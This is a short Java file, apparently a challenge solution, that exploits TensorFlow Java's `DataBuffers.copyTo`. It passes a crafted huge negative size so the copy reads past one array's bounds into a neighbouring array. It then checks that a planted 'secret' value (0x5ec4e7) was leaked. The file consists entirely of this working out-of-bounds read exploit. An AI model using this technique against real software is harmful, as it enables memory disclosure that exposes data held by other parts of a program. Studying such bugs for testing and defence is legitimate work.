import java.util.Arrays;
import org.tensorflow.ndarray.buffer.DataBuffers;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) {
        int[] own = {7, 7, 7, 7};
        int[] other = new int[64];
        Arrays.fill(other, 0x5ec4e7);
        int[] into = new int[2000];
        DataBuffers.of(own, false, false).copyTo(DataBuffers.of(into, false, false), Long.MIN_VALUE / 2 + 1000);
        if (Arrays.stream(into).noneMatch(value -> value == 0x5ec4e7)) {
            throw new IllegalStateException("nothing of the other array was copied");
        }
    }
}
